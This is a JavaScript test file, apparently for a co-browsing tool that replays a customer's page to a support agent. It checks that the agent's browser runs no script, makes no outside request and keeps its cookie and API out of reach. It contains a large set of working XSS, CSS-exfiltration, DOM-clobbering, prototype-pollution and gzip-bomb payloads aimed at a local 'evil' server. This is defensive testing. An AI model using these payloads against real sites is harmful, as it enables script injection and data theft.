// What a hostile page, or a hostile client that posts whatever it likes, can do to the agent who looks: nothing runs on the desk, nothing is asked for by its
// browser, its cookie and API stay out of reach, and the desk goes on working and says where the picture is broken.

import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer } from "node:http";
import { test } from "node:test";
import { gzipSync } from "node:zlib";

import { say, sees, startConversation } from "./support/conversation.mjs";
import { agentAsks, SHARE_OVER, shown } from "./support/screen.mjs";
import { withStage } from "./support/stage.mjs";

/** By this the server that nobody should ask knows the agent's browser. */
const DESK_BROWSER = "the-agents-browser";
const COMPLETE = { type: 5, timestamp: 1, data: { tag: "sportello.complete", payload: {} } };
const PATIENCE_MS = 20_000;

/** A server that a hostile page would have the agent's browser ask. */
async function startEvil() {
  const asked = [];
  const server = createServer((request, response) => {
    asked.push({ path: request.url, isDesk: request.headers["user-agent"] === DESK_BROWSER });
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" }).end("globalThis.hacked = true;");
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  return {
    origin: `http://127.0.0.1:${server.address().port}`,
    /** What the agent's browser has asked for. */
    fromDesk: () => asked.filter(({ isDesk }) => isDesk).map(({ path }) => path),
    fromCustomer: () => asked.filter(({ isDesk }) => !isDesk).map(({ path }) => path),
    async close() {
      server.closeAllConnections();
      server.close();
      await once(server, "close");
    },
  };
}

/** Everything that the agent's browser does is written down. */
function watchDesk(desk) {
  const seen = { requests: [], dialogs: [], popups: [], console: [], navigations: [] };
  desk.context().on("request", (request) => seen.requests.push(request.url()));
  desk.on("dialog", (dialog) => {
    seen.dialogs.push(dialog.message());
    dialog.dismiss();
  });
  desk.context().on("page", (page) => seen.popups.push(page.url()));
  desk.on("console", (message) => seen.console.push(message.text()));
  desk.on("framenavigated", (frame) => seen.navigations.push(frame.url()));
  return seen;
}

async function checkDesk({ stage, desk, evil, seen }, what) {
  const origin = new URL(stage.gateway.origin).origin;
  const foreign = seen.requests.filter((url) => new URL(url).origin !== origin && !url.startsWith("data:"));
  assert.deepEqual(foreign, [], `${what}: requests of the agent's browser`);
  const wanted = /^\/(?:desk|replay|pkg|styles|shared|favicon\.svg|api\/v1\/config)/u;
  assert.deepEqual(seen.requests.filter((url) => !url.startsWith("data:") && !wanted.test(new URL(url).pathname)), [], `${what}: requests to the gateway`);
  assert.deepEqual(evil.fromDesk(), [], `${what}: what the agent's browser asked for`);
  assert.deepEqual(seen.dialogs, [], what);
  assert.deepEqual(seen.popups, [], what);
  assert.deepEqual(seen.console.filter((text) => /hacked/u.test(text)), [], what);
  assert.deepEqual(seen.navigations.filter((url) => url !== "about:blank" && !/\/(?:desk|replay\/)$/u.test(url)), [], what);
  for (const frame of desk.frames()) assert.equal(await frame.evaluate(() => globalThis.hacked), undefined, `${what}: ${frame.url()}`);
  assert.equal(await desk.evaluate(() => Object.prototype.polluted), undefined, what);
  const inner = desk.frames().find((frame) => frame.parentFrame()?.url().endsWith("/replay/"));
  if (!inner) return;
  const left = await inner.evaluate(() => {
    const all = [...document.querySelectorAll("*")];
    const bad = all.filter((node) => ["SCRIPT", "IFRAME", "FRAME", "OBJECT", "EMBED", "BASE", "META", "LINK", "TEMPLATE", "VIDEO", "AUDIO", "SOURCE"].includes(node.nodeName.toUpperCase()));
    const attributes = all.flatMap((node) => [...node.attributes].map(({ name, value }) => `${name}=${value.slice(0, 60)}`));
    return [...bad.map((node) => node.outerHTML.slice(0, 100)), ...attributes.filter((text) => /^(?:on\w+|srcdoc|srcset|action|formaction|ping|target|autofocus|background|poster|http-equiv|name)=|^(?:[\w:]*href|src)=(?!#|data:image\/)|javascript:/iu.test(text))];
  });
  assert.deepEqual(left, [], `${what}: what is left in the picture`);
}

/** The desk is still a desk: its buttons can be reached, it takes words and sends them. */
async function deskWorks({ customer, desk }, words) {
  await say(desk, words);
  await sees(customer, words);
  await desk.getByRole("button", { name: "Stop" }).click({ trial: true });
}

/** A stage with a conversation, and a server that nobody should ask. The customer's page may do whatever it wants: it has no policy. */
async function withScreen(play) {
  const evil = await startEvil();
  try {
    await withStage(async (stage) => {
      // The customer's page is hostile: its own errors are its own affair.
      stage.expectFaults(SHARE_OVER, new RegExp(evil.origin, "u"), /customer|hacked|ERR_|Failed to load|favicon|CORS|Refused|violates|blocked/u);
      const stageOf = { ...stage, desk: () => stage.desk({ page: { userAgent: DESK_BROWSER } }), customer: () => stage.customer({ page: { bypassCSP: true } }) };
      const { customer, desk } = await startConversation(stageOf);
      const seen = watchDesk(desk);
      await play({ stage, evil, customer, desk, seen });
    });
  } finally {
    await evil.close();
  }
}

test("a page full of hostile markup is shown as a picture and does nothing on the desk", async () => {
  await withScreen(async (all) => {
    const { customer, desk, evil } = all;
    await customer.evaluate((markup) => document.body.append(document.createRange().createContextualFragment(markup)), hostileMarkup(evil.origin));
    // The markup is alive: on the customer's own page it does what it is there for.
    await customer.waitForFunction(() => globalThis.hacked === true);
    for (const path of ["/image.png", "/set.png", "/import.css", "/sheet.css", "/style.png", "/object.html"]) {
      await customer.waitForFunction((url) => performance.getEntriesByName(url).length > 0, `${evil.origin}${path}`).catch(() => assert.fail(`the customer's browser did not ask for ${path}`));
    }
    await agentAsks(all);
    await shown(desk).getByText("the end of the hostile page").waitFor();
    await checkDesk(all, "the first picture");
    // The same again while it is shown, and a page that keeps changing.
    await customer.evaluate((markup) => {
      const holder = document.createElement("div");
      holder.innerHTML = markup.replace("the end of the hostile page", "once more");
      document.body.append(holder);
      for (const name of ["onclick", "onfocus", "onanimationstart"]) document.querySelector("#box-over").setAttribute(name, "globalThis.hacked = true");
      document.querySelector("#hostile-link").setAttribute("href", "javascript:globalThis.hacked = true");
      document.querySelector("#box-over").style.backgroundImage = `url(${document.querySelector("#hostile-image").src}?changed)`;
    }, hostileMarkup(evil.origin));
    await shown(desk).getByText("once more").waitFor();
    const box = await desk.locator(".screen-frame").boundingBox();
    for (const [x, y] of [[0.2, 0.2], [0.5, 0.5], [0.8, 0.8]]) await desk.mouse.click(box.x + box.width * x, box.y + box.height * y);
    await checkDesk(all, "after changes and clicks");
    await deskWorks(all, "The desk works.");
    // What covers the whole of the customer's page covers the picture and no more.
    assert.equal(await desk.evaluate(() => document.elementFromPoint(innerWidth / 2, 40).closest("header") !== null), true);
  });
});

function hostileMarkup(evil) {
  const run = "globalThis.hacked=true";
  return `
  <div id="box-over" style="position:fixed;inset:0;z-index:2147483647;pointer-events:none;opacity:.01">over everything</div>
  <img id="hostile-image" src="${evil}/image.png" onerror="${run}" onload="${run}"><img srcset="${evil}/set.png 1x"><img src="x" onerror="${run}">
  <svg width="10" height="10" onload="${run}"><script>${run}</script><a href="javascript:${run}"><text y="9">svg</text></a><image href="${evil}/svg.png" width="9" height="9"/>
    <use href="${evil}/use.svg#a"/><animate attributeName="href" values="javascript:${run}" onbegin="${run}"/><set attributeName="onclick" to="${run}"/>
    <foreignObject><iframe srcdoc="<script>parent.hacked=true</script>"></iframe></foreignObject><style>@import "${evil}/svg.css";</style></svg>
  <a id="hostile-link" href="javascript:${run}" ping="${evil}/ping" target="_top">link</a><a href="data:text/html,<script>${run}</script>">data</a>
  <iframe src="javascript:parent.hacked=true"></iframe><iframe srcdoc="<script>parent.hacked=true</script>"></iframe>
  <object data="${evil}/object.html"></object><embed src="${evil}/embed.html">
  <form action="${evil}/form"><input autofocus onfocus="${run}" name="parent"><input name="children" id="appendChild"><button formaction="javascript:${run}">send</button></form>
  <form name="scripts"></form><img name="links"><form id="parentNode"><input id="childNodes" name="attributes"></form>
  <video src="${evil}/video.mp4" poster="${evil}/poster.png" autoplay onerror="${run}"></video><audio src="${evil}/audio.mp3" onerror="${run}"></audio>
  <details open ontoggle="${run}"><summary>details</summary></details><dialog open onclose="${run}">dialog <input autofocus></dialog>
  <style>@import "${evil}/import.css"; @font-face { font-family: hostile; src: url(${evil}/font.woff2); }
    @keyframes hostile { to { background: url(${evil}/frame.png) } } #animated { animation: hostile 1s; font-family: hostile; background: image-set("${evil}/imageset.png" 1x) }
    input[value^="a"] { background: url(${evil}/exfiltrated) } html { cursor: url(${evil}/cursor.png), auto }</style>
  <p id="animated" onanimationstart="${run}" style="background:url(${evil}/style.png)">animated</p>
  <table background="${evil}/table.png"><tr><td>table</td></tr></table><marquee onstart="${run}">marquee</marquee>
  <link rel="stylesheet" href="${evil}/sheet.css"><link rel="prefetch" href="${evil}/prefetch"><link rel="dns-prefetch" href="//evil.invalid">
  <meta http-equiv="refresh" content="99999;url=${evil}/refresh"><template><script>${run}</script></template><noscript><img src="${evil}/noscript.png"></noscript>
  <x-hostile onclick="${run}" src="${evil}/own">own element</x-hostile><button popovertarget="p">popover</button><div id="p" popover ontoggle="${run}">popover</div>
  <math><mtext><img src="x" onerror="${run}"></mtext></math><p contenteditable onfocus="${run}" tabindex="0">editable</p>
  <p>the end of the hostile page</p>`;
}

const element = (id, tagName, attributes = {}, childNodes = [], more = {}) => ({ type: 2, id, tagName, attributes, childNodes, ...more });
const text = (id, textContent, more = {}) => ({ type: 3, id, textContent, ...more });
const page = (children, head = []) => [
  { type: 4, timestamp: 1, data: { href: "http://x/", width: 1_000, height: 700 } },
  {
    type: 2,
    timestamp: 1,
    data: { node: { type: 0, id: 1, childNodes: [{ type: 1, id: 2, name: "html", publicId: "", systemId: "" }, element(3, "html", {}, [element(4, "head", {}, head), element(5, "body", {}, [element(6, "p", { id: "marker" }, [text(7, "waiting")]), ...children])])] }, initialOffset: { left: 0, top: 0 } },
  },
];
const change = (data) => ({ type: 3, timestamp: 1, data });
const mutation = (parts) => change({ source: 0, adds: [], removes: [], texts: [], attributes: [], ...parts });
const add = (node, parentId = 5) => mutation({ adds: [{ parentId, nextId: null, node }] });

/** Recordings that no recorder makes, by what they try. Each is a whole page, and what follows it. */
function attacks(evil) {
  const run = "globalThis.hacked=true;top.hacked=true";
  const css = `@import "${evil}/a.css"; body { background: url(${evil}/b.png) } x { background: u\\72l(${evil}/c.png); background: image-set("${evil}/d.png" 1x) } @font-face { font-family: f; src: url(${evil}/e.woff) } * { font-family: f }`;
  return {
    scripts: [
      ...page([element(10, "script", { src: `${evil}/s.js` }, [text(11, run)]), element(12, "SCRIPT", {}, [text(13, run)]), element(14, "script", { href: `${evil}/t.js` }, [text(15, run)], { isSVG: true }), element(16, "svg", {}, [element(17, "script", {}, [text(18, run)], { isSVG: true })], { isSVG: true })]),
      add(element(20, "script", { src: `${evil}/u.js` })),
      add(text(21, run), 20),
      add(element(22, "noscript", {}, [])),
    ],
    handlers: page(["img", "svg", "body", "details", "input", "marquee", "x-own", "iframe"].map((tag, at) => element(10 + at, tag, { onerror: run, onload: run, onclick: run, onbegin: run, ontoggle: run, onfocus: run, OnPointerOver: run, src: "x", open: "", autofocus: true, tabindex: "0" }, [], { isCustom: true, isSVG: tag === "svg" }))),
    frames: [
      ...page([element(10, "iframe", { srcdoc: `<script>${run}</script>`, src: `javascript:${run}` }), element(11, "frameset", {}, [element(12, "frame", { src: `${evil}/frame` })]), element(13, "object", { data: `${evil}/o` }), element(14, "embed", { src: `${evil}/e` }), element(15, "portal", { src: `${evil}/p` })]),
      mutation({ attributes: [{ id: 10, attributes: { srcdoc: `<script>${run}</script>`, src: `${evil}/f` } }] }),
      mutation({ adds: [{ parentId: 10, nextId: null, node: { type: 0, id: 30, childNodes: [element(31, "html", {}, [element(32, "script", {}, [text(33, run)])])] } }], isAttachIframe: true }),
    ],
    links: [
      ...page([element(10, "a", { href: `javascript:${run}`, ping: `${evil}/ping`, target: "_top" }, [text(11, "link")]), element(12, "form", { action: `${evil}/f` }, [element(13, "button", { formaction: `javascript:${run}`, autofocus: "" })]), element(14, "area", { href: `javascript:${run}` })], [element(20, "base", { href: `${evil}/`, target: "_top" }), element(21, "meta", { "http-equiv": "refresh", content: `0;url=${evil}/refresh` }), ...["stylesheet", "preload", "prefetch", "modulepreload", "dns-prefetch", "preconnect", "icon", "manifest"].map((rel, at) => element(30 + at, "link", { rel, href: `${evil}/${rel}`, as: "image" }))]),
      mutation({ attributes: [{ id: 10, attributes: { href: `javascript:${run}`, onclick: run } }] }),
      change({ source: 2, type: 2, id: 10, x: 1, y: 1 }),
      change({ source: 2, type: 5, id: 13, x: 1, y: 1 }),
      change({ source: 2, type: 4, id: 10, x: 1, y: 1 }),
    ],
    pictures: [
      ...page([element(10, "img", { src: `${evil}/1.png`, srcset: `${evil}/2.png 1x`, rr_dataURL: `${evil}/3.png` }), element(11, "picture", {}, [element(12, "source", { srcset: `${evil}/4.png` }), element(13, "img", { src: "data:text/html,<script>1</script>" })]), element(14, "video", { src: `${evil}/5`, poster: `${evil}/6`, autoplay: "", rr_mediaState: "played" }), element(15, "audio", { src: `${evil}/7`, autoplay: "" }), element(16, "input", { type: "image", src: `${evil}/8` }), element(17, "table", { background: `${evil}/9` }), element(18, "canvas", { rr_dataURL: `${evil}/10` }), element(19, "svg", {}, [element(20, "image", { href: `${evil}/11`, "xlink:href": `${evil}/12` }, [], { isSVG: true }), element(21, "use", { href: `${evil}/13#a` }, [], { isSVG: true }), element(22, "rect", { fill: `url(${evil}/14#a)`, width: "9", height: "9" }, [], { isSVG: true }), element(23, "animate", { attributeName: "href", to: `${evil}/15` }, [], { isSVG: true })], { isSVG: true })]),
      mutation({ attributes: [{ id: 10, attributes: { src: `${evil}/16`, srcset: `${evil}/17 2x` } }, { id: 20, attributes: { href: `${evil}/18` } }] }),
      change({ source: 7, id: 14, type: 0, currentTime: 1 }),
    ],
    styles: [
      ...page([element(10, "style", {}, [text(11, css, { isStyle: true })]), element(12, "style", { _cssText: css }, [text(13, css)]), element(14, "link", { rel: "stylesheet", _cssText: css }), element(15, "div", { style: `background:url(${evil}/s1)` }), element(16, "style", { _cssText: `a{background:u/* rr_split */rl(${evil}/s2)}` }, [text(17, ""), text(18, "")]), element(19, "style", {}, [text(20, "p{background:u"), text(21, `rl(${evil}/s3)}`)])]),
      mutation({ texts: [{ id: 11, value: css }, { id: 10, value: css }, { id: 20, value: "p{background:u" }, { id: 21, value: `rl(${evil}/s4)}` }], attributes: [{ id: 12, attributes: { _cssText: css } }, { id: 15, attributes: { style: { background: `url(${evil}/s5)`, "--a": `url(${evil}/s6)` } } }, { id: 5, attributes: { style: `background:url(${evil}/s7)` } }] }),
      change({ source: 8, id: 12, adds: [{ rule: `p{background:url(${evil}/s8)}`, index: 0 }, { rule: `@import "${evil}/s9"`, index: 0 }], replaceSync: css }),
      change({ source: 13, id: 12, index: [0], set: { property: "background", value: `url(${evil}/s10)`, priority: "" } }),
      change({ source: 15, id: 1, styles: [{ styleId: 50, rules: [{ rule: `p{background:url(${evil}/s11)}` }] }], styleIds: [50] }),
    ],
    events: [
      ...page([element(10, "canvas", {}), element(11, "input", { value: "x" })]),
      change({ source: 9, id: 10, type: 0, commands: [{ property: "drawImage", args: [{ rr_type: "ImageBitmap", args: [] }], setter: false }] }),
      change({ source: 9, id: 10, type: 0, property: "constructor", args: [run], setter: true }),
      change({ source: 10, family: "hostile", fontSource: `url(${evil}/font)`, buffer: false, descriptors: {} }),
      change({ source: 14, ranges: [{ start: 11, startOffset: 0, end: 11, endOffset: 0 }] }),
      change({ source: 11, level: "log", payload: ["hacked"] }),
      { type: 6, timestamp: 1, data: { plugin: "rrweb/console@1", payload: { level: "log", payload: ["hacked"] } } },
      { type: 5, timestamp: 1, data: { tag: "other", payload: { html: `<img src=x onerror=${run}>` } } },
    ],
    "own elements": page([element(10, "x-a", { onclick: run }, [element(11, "style", {}, [text(12, css)], { isShadow: true }), element(13, "img", { src: `${evil}/x`, onerror: run }, [], { isShadow: true })], { isCustom: true, isShadowHost: true }), element(14, "input", {}, [element(15, "b", {}, [], { isShadow: true })], { isShadowHost: true }), element(16, "annotation-xml", {}, [], { isCustom: true })]),
    focus: [...page([element(10, "dialog", { open: "", rr_open_mode: "modal" }, [element(11, "input", { autofocus: "" })]), element(12, "button", { autofocus: true, accesskey: "s", tabindex: "1" })]), change({ source: 2, type: 5, id: 11 }), mutation({ attributes: [{ id: 10, attributes: { rr_open_mode: "modal", open: "" } }] })],
    names: page([element(10, "form", { name: "createElement", id: "appendChild" }, [element(11, "input", { id: "childNodes", name: "parentNode" }), element(12, "input", { id: "attributes", name: "setAttribute" }), element(13, "p", {}, [text(14, "in the form")])]), element(15, "img", { name: "documentElement", id: "head" }), element(16, "img", { name: "implementation", id: "createTextNode" }), element(17, "form", { name: "defaultView" })]),
    "over everything": [...page([element(10, "div", { style: "position:fixed;inset:-5000px;z-index:2147483647;background:red" })]), change({ source: 4, width: 1e9, height: 1e9 }), change({ source: 4, width: 1_000, height: 700 })],
    nonsense: [...page([element(10, "div", {}, [element(10, "div"), element(5, "p")]), element(-1, "p"), element("x", "p"), null, 7, [], { type: 9, id: 11 }]), null, 7, "x", [], {}, { type: 3 }, { type: 3, data: null }, add(element(5, "div"), 10), add(element(3, "html"), 1), mutation({ removes: [{ id: 1 }, { id: 3 }, { id: 4, parentId: 99 }] }), mutation({ adds: [{ parentId: 10, nextId: 77, previousId: -1, node: element(70, "b") }] })],
    "many nodes": [...page([element(10, "div", {}, Array.from({ length: 60_000 }, (_, at) => element(100 + at, "b", { class: "x" })))])],
  };
}

test("a client that posts what no recorder makes cannot reach the agent", async () => {
  await withScreen(async (all) => {
    const { customer, desk, evil } = all;
    const post = await takeOver(customer, () => agentAsks(all));
    const focus = () => desk.evaluate(() => document.activeElement.id);
    await desk.getByRole("textbox", { name: "Your answer" }).focus();
    for (const [what, events] of Object.entries(attacks(evil.origin))) {
      await post([...events, mutation({ texts: [{ id: 7, value: `after ${what}` }] }), COMPLETE]);
      // Shown to its end, or said to be broken.
      await shown(desk).getByText(`after ${what}`).waitFor({ timeout: PATIENCE_MS });
      await checkDesk(all, what);
      assert.equal(await focus(), "text", `${what}: the focus stays where the agent writes`);
    }
    await deskWorks(all, "Still here.");
    const box = await desk.locator(".screen-frame").boundingBox();
    await desk.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
    await checkDesk(all, "after a click");
  });
});

test("what cannot be shown is said, and a good picture afterwards is shown", async () => {
  await withScreen(async (all) => {
    const { customer, desk, evil } = all;
    const post = await takeOver(customer, () => agentAsks(all));
    const broken = {
      "no gzip": [Buffer.from("hello"), /^The picture is broken: the page sent something/u],
      "no JSON": [gzipSync("<html>"), /^The picture is broken: the page sent something/u],
      "no list": [gzipSync('{"type":2}'), /^The picture is broken: the page sent something/u],
      "a bomb": [gzipSync(Buffer.alloc(400_000_000, " ")), /^The picture is broken: the page is too large/u],
      "too deep": [gzipSync(`${"[".repeat(200_000)}${"]".repeat(200_000)}`), null],
      "deep nodes": [gzipSync(JSON.stringify([...page([]), COMPLETE]).replace('"waiting"', `"waiting","childNodes":${'[{"type":2,"id":9,"tagName":"b","childNodes":'.repeat(100_000)}[]${"}]".repeat(100_000)}`)), null],
      "no page": [gzipSync(JSON.stringify([{ type: 2, timestamp: 1, data: { node: { type: 0, id: 1, childNodes: [] } } }])), /^The picture is broken: the page sent something/u],
      prototypes: [gzipSync(`[{"type":2,"__proto__":{"polluted":1},"data":{"__proto__":{"polluted":1},"node":{"type":0,"id":1,"childNodes":[{"type":2,"id":2,"tagName":"html","attributes":{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}},"childNodes":[]}]},"initialOffset":{}}}]`), null],
    };
    for (const [what, [bytes, words]] of Object.entries(broken)) {
      await post(bytes);
      if (words) await desk.locator("#screen-state", { hasText: words }).waitFor({ timeout: PATIENCE_MS });
      await post([...page([]), mutation({ texts: [{ id: 7, value: `good after ${what}` }] }), COMPLETE]);
      await shown(desk).getByText(`good after ${what}`).waitFor({ timeout: PATIENCE_MS });
      await desk.getByText(/^You see the page of/u).waitFor();
      await checkDesk(all, what);
    }
    assert.deepEqual(evil.fromDesk(), []);
    await deskWorks(all, "Nothing is broken here.");
  });
});

test("the page that shows the recording can ask for nothing, and what it shows runs nothing", async () => {
  await withScreen(async (all) => {
    const { desk, evil } = all;
    await agentAsks(all);
    const replay = desk.frames().find((frame) => frame.url().endsWith("/replay/"));
    // Even if somebody got a script in: no request, no cookie, no other frame.
    const found = await replay.evaluate(async (origin) => {
      const refused = (promise) => promise.then(() => "answered", () => "refused");
      const inner = document.querySelector("iframe");
      const image = new Image();
      const loaded = new Promise((resolve) => {
        image.onload = () => resolve("loaded");
        image.onerror = () => resolve("refused");
      });
      image.src = `${origin}/image.png`;
      return {
        api: await refused(fetch("/desk/api/v1/me")),
        evil: await refused(fetch(`${origin}/x`, { mode: "no-cors" })),
        beacon: navigator.sendBeacon("/desk/api/v1/me", "x"),
        image: await loaded,
        cookie: document.cookie,
        sandbox: inner.getAttribute("sandbox"),
        inert: inner.closest("[inert]") !== null,
      };
    }, evil.origin);
    assert.deepEqual({ ...found, beacon: null }, { api: "refused", evil: "refused", beacon: null, image: "refused", cookie: "", sandbox: "allow-same-origin", inert: true });
    assert.deepEqual(evil.fromDesk(), []);
    const headers = await (await fetch(`${all.stage.gateway.origin}/replay/`)).headers.get("content-security-policy");
    assert.match(headers, /default-src 'none'/u);
    assert.match(headers, /connect-src 'none'/u);
    assert.match(headers, /frame-ancestors 'self'/u);
    all.stage.expectFaults(/content security policy|Content Security Policy/iu);
  });
});

/**
 * Shares the page as usual, and then speaks in its place: the page's own batches no longer pass. Gives a function that posts a whole recording: events, or
 * bytes as they are.
 */
async function takeOver(customer, share) {
  let last;
  let isTaken = false;
  await customer.route(/\/records\?/u, (route) => {
    last = route.request();
    if (isTaken) return route.fulfill({ json: { viewers: 0, resync: false } });
    return route.continue();
  });
  await share();
  isTaken = true;
  const { authorization } = await last.allHeaders();
  let epoch = Date.now() + 60_000;
  return async (recording) => {
    epoch += 1;
    const url = new URL(last.url());
    url.searchParams.set("epoch", epoch);
    url.searchParams.set("seq", 1);
    const body = Buffer.isBuffer(recording) ? recording : gzipSync(JSON.stringify(recording));
    const response = await fetch(url, { method: "POST", headers: { authorization, "content-type": "application/octet-stream" }, body });
    assert.equal(response.status, 200, await response.text());
  };
}
